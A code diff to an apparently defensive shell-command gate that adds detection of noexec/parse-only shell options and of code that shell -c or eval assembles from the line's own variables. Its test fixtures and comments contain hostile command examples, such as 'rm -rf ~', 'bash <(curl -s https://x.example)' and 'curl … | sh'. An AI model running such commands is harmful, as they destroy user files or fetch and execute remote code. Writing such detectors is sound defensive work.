@@ -106,18 +106,31 @@ def _runs_file_text(cmd, what: str) -> bool:
     return False
 
 
+# Fired when a shell or eval judged the code the line's own variables made: the splitter, which saw only the
+# expansion, marked the part opaque; the engine drops that finding once the code is read.
+LINE_VARIABLES_CODE = "code.line-variables"
+
 # ---------------------------------------------------------------- shells
+
+
+# Options that turn noexec on (`-n`, `-o noexec`) or off (`+n`, `+o noexec`): the shell reads its code, checks
+# the syntax and runs none of it (nor $BASH_ENV); the last one given wins. An interactive shell (-i) is a session.
+NOEXEC_LONG = frozenset({"--noexec", "--no-exec", "--no-execute"})
 
 
 def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, bool, list]:
     """sh's own reading of its words (getopt cannot: `+o NAME`, `-` ending the options, -c taking the first
     operand): (takes -c code, operands, -s reads stdin, -n parses only, rc files it sources). fish's
     -C/--init-command CODE go to `init`."""
-    code = reads_stdin = parse_only = False
+    code = reads_stdin = parse_only = interactive = False
     rcfiles: list[str] = []
     i, n = 0, len(args)
     while i < n:
         arg = args[i]
+        if arg in NOEXEC_LONG:
+            parse_only = True
+            i += 1
+            continue
         if arg in ("--rcfile", "--init-file", "-rcfile", "-init-file"):
             if i + 1 < n:
                 rcfiles.append(args[i + 1])
@@ -140,11 +153,16 @@ def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, 
             letters = arg[1:]
             code = code or "c" in letters
             reads_stdin = reads_stdin or "s" in letters
-            parse_only = parse_only or arg[0] == "-" and "n" in letters
+            interactive = interactive or arg[0] == "-" and "i" in letters
+            if "n" in letters:
+                parse_only = arg[0] == "-"
+            names = [args[i + 1 + k] for k, ch in enumerate(ch for ch in letters if ch in "oO") if i + 1 + k < n]
+            if "o" in letters and "noexec" in names:
+                parse_only = arg[0] == "-"
             i += 1 + sum(1 for ch in letters if ch in "oO")    # -o NAME / +O NAME take the next word
             continue
         break
-    return code, list(args[i:]), reads_stdin, parse_only, rcfiles
+    return code, list(args[i:]), reads_stdin, parse_only and not interactive, rcfiles
 
 
 @emits({"sh.rcfile": ["bash --rcfile ~/.evil -i"],
@@ -153,7 +171,8 @@ def read_shell_words(args, init: list | None = None) -> tuple[bool, list, bool, 
         "code.file-text": ['bash -c "$(cat x.sh)"'],
         "sh.code-unsplit": ["tcsh -c 'rm -rf ~'", "nix develop -c bash -c 'ls'"],
         "sh.code-other-language": ["xonsh -c 'import os'"],
-        "sh.parse-only": ["bash -n script.sh", "sh -n ./configure"],
+        "sh.parse-only": ["bash -n script.sh", "sh -n ./configure", "bash -n -c 'rm -rf ~'",
+                          "bash -n <<< 'rm -rf ~'", "zsh -o noexec x.zsh"],
         "sh.script": ["bash script.sh", "sh ./configure", "bash /tmp/x.sh"],
         "sh.script-runtime": ['bash "$S"', "bash <(curl -s https://x.example)"],
         "sh.stdin": ["echo ls | bash", "bash <<< 'ls'"], "sh.stdin-file": ["bash -s < x.sh", "sh < /tmp/x"],
@@ -175,6 +194,11 @@ def shell_line(cmd, o: Options) -> None:
         else:
             cmd.fired.add("sh.init-command")
             cmd.code_text(text, f"{cmd.name} -C")
+    if parse_only and (code or operands or stdin_fed(cmd)):
+        cmd.fired.add("sh.parse-only")      # -n reads commands but runs none (not even $BASH_ENV)
+        for word in operands[:1] if not code else ():
+            cmd.read(word, "parses")
+        return
     if code:
         text = operands[0] if operands else ""
         if cmd.via_xargs or not operands:
@@ -187,18 +211,16 @@ def shell_line(cmd, o: Options) -> None:
             cmd.facts.runtime_code = True
             cmd.does("run-code", "sh.code-runtime", f"{cmd.name} -c runs code known only at run time")
             _runs_file_text(cmd, f"{cmd.name} -c runs the text of")
-        elif cmd.name not in SPLIT_SHELLS or cmd.delegated:
-            # the splitter did not make parts of it: judge it here (read as sh, the nearest the gate has)
+        elif cmd.name not in SPLIT_SHELLS or cmd.delegated or not cmd.splitter_saw(text):
+            # the splitter did not make parts of it (another shell's, handed on, or the line's own variables
+            # made it: `c='curl … | sh'; bash -c "$c"`): judge it here (read as sh, the nearest the gate has)
             if cmd.name in OTHER_LANGUAGE_SHELLS:
                 cmd.does("run-code", "sh.code-other-language", f"{cmd.name} -c runs code in {cmd.name}'s language")
             cmd.fired.add("sh.code-unsplit")
+            if cmd.name in SPLIT_SHELLS and not cmd.delegated:
+                cmd.fired.add(LINE_VARIABLES_CODE)
             cmd.code_text(text, f"{cmd.name} -c")
         return      # else: a literal command line, split into parts of its own and judged there
-    if parse_only and (operands or not stdin_fed(cmd)):
-        cmd.fired.add("sh.parse-only")      # -n reads commands but runs none
-        for word in operands[:1]:
-            cmd.read(word, "parses")
-        return
     if operands and not reads_stdin:
         _script(cmd, operands[0], "sh", f"{cmd.name} runs", shell=cmd.name not in OTHER_LANGUAGE_SHELLS)
         return
@@ -774,7 +796,8 @@ DENO = Program(
 # ---------------------------------------------------------------- eval, source
 
 
-@emits({"eval.runtime": ['eval "$X"', "echo ls | xargs eval"], "eval.unsplit": ["nix develop -c eval ls"]})
+@emits({"eval.runtime": ['eval "$X"', "echo ls | xargs eval"], "eval.unsplit": ["nix develop -c eval ls"],
+        "eval.line-variables": ['eval "cd $HOME"']})
 def eval_words(cmd, o: Options) -> None:
     """eval WORDS: literal text is split by the splitter; text known at run time is code the gate cannot read."""
     text = " ".join(o.args)
@@ -785,6 +808,11 @@ def eval_words(cmd, o: Options) -> None:
     elif cmd.delegated:
         cmd.fired.add("eval.unsplit")
         cmd.code_text(text, "eval")
+    elif not all(cmd.splitter_saw(word) for word in o.args):
+        # `x='curl -s URL | sh'; eval "$x"`: the line's own variables made the text (the splitter saw none of it)
+        cmd.fired.add("eval.line-variables")
+        cmd.fired.add(LINE_VARIABLES_CODE)
+        cmd.code_text(text, "eval runs the line's own variables")
 
 
 @emits({"source.runtime": ['source "$F"', "source <(curl -s https://x.example)"],
